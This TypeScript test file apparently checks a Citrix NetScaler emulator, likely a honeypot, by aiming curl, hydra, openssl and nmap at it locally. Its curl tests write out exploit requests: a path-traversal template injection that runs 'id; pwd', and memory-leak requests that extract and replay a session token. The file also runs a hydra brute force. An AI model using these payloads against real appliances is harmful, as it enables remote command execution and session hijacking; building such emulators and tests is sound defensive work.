import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Identity } from '../../src/config/identity.ts'
import citrix from '../../src/emulators/citrix/index.ts'
import { createHosts } from '../../src/host/hosts.ts'
import { MemoryState, noEngine, type Playing, play } from '../harness.ts'

const run = promisify(execFile)
let playing: Playing
let folder: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'citrix-client-'))
  const identity = new Identity(Buffer.alloc(32, 7))
  const state = new MemoryState()
  playing = await play(citrix, {
    persona: 'debian-web',
    identity,
    state,
    hosts: createHosts({ identity, engine: noEngine, state }),
    settings: { limits: { connectionsPerSource: 200 } },
  })
})

afterAll(async () => {
  await playing.stop()
  rmSync(folder, { recursive: true, force: true })
})

const url = (path: string): string => `https://127.0.0.1:${playing.port()}${path}`
const curl = async (...args: string[]): Promise<string> =>
  (await run('curl', ['-ksS', '--path-as-is', ...args], { encoding: 'latin1', maxBuffer: 2 ** 22 })).stdout

describe('curl', () => {
  it('plants a command over TLS and reads its output from the host', async () => {
    const template = "title=[%25+template.new({'BLOCK'%3d'print+`id;+pwd`'})+%25]&url=http://x/&desc=d"
    await curl('-H', 'NSC_USER: ../../../netscaler/portal/templates/q1', '-d', template, url('/vpn/../vpns/portal/scripts/newbm.pl'))
    expect(await curl(url('/vpn/../vpns/portal/q1.xml'))).toMatch(/^uid=65534\(nobody\)[^\n]*\n\//)
  })

  it('takes a session out of the memory and uses it', async () => {
    const leak = join(folder, 'leak')
    await curl('-o', leak, '-H', `Host: ${'a'.repeat(24_812)}`, url('/oauth/idp/.well-known/openid-configuration'))
    const { length } = readFileSync(leak)
    expect([length > 10_000, readFileSync(leak, 'latin1').startsWith('{"issuer"')]).toEqual([true, true])
    const [token = ''] = /[0-9a-f]{100}45525d5f4f58455e445a4a42/.exec(readFileSync(leak, 'latin1')) ?? []
    expect(await curl('-X', 'POST', '-b', `NSC_AAAC=${token}`, url('/logon/LogonPoint/Authentication/GetUserName'))).toMatch(/^[a-z.-]+$/)
  })

  it('gets other memory each time it leaves the value of `login` out', async () => {
    const leaked = async (): Promise<string | undefined> =>
      /<InitialValue>([\s\S]+?)<\/InitialValue>/.exec(await curl('-d', 'login', url('/p/u/doAuthentication.do')))?.[1]
    const [first, second] = [await leaked(), await leaked()]
    expect(first).not.toBe(second)
    expect([first?.length, second?.length]).toEqual([expect.any(Number), expect.any(Number)])
  })
})

describe('openssl', () => {
  it('sees a certificate with a name of this installation', async () => {
    const command = `openssl s_client -connect 127.0.0.1:${playing.port()} </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer`
    const { stdout } = await run('sh', ['-c', command], { timeout: 20_000 })
    expect(stdout).toMatch(/^subject=CN ?= ?[\w-]+\.[\w.-]+\n/)
    expect(stdout).not.toMatch(/Internet Widgits|Some-State|localhost|example/)
  }, 30_000)
})

describe('hydra', () => {
  it('finds no valid pair, and every try is written down', async () => {
    const list = join(folder, 'passwords')
    writeFileSync(list, 'citrix\nPassw0rd\nwelcome\n')
    const { stdout } = await run(
      'hydra',
      [
        '-l',
        'admin',
        '-P',
        list,
        '-t',
        '2',
        '-s',
        String(playing.port()),
        '127.0.0.1',
        'https-post-form',
        '/cgi/login:login=^USER^&passwd=^PASS^:NSC_VPNERR',
      ],
      { timeout: 60_000 },
    )
    expect(stdout).toContain('0 valid password')
    expect(playing.data<{ password: string }>('login').map(({ password }) => password)).toEqual(
      expect.arrayContaining(['citrix', 'Passw0rd', 'welcome']),
    )
  }, 70_000)
})

describe('nmap', () => {
  it('names the product behind the port', async () => {
    const { stdout } = await run('nmap', ['-n', '-Pn', '-sT', '-sV', '-p', String(playing.port()), '127.0.0.1'], { timeout: 170_000 })
    expect(stdout).toMatch(/ssl\/http +Citrix NetScaler SSL VPN/)
    expect([playing.data('lure.fault'), playing.deadLetters]).toEqual([[], []])
  }, 180_000)
})
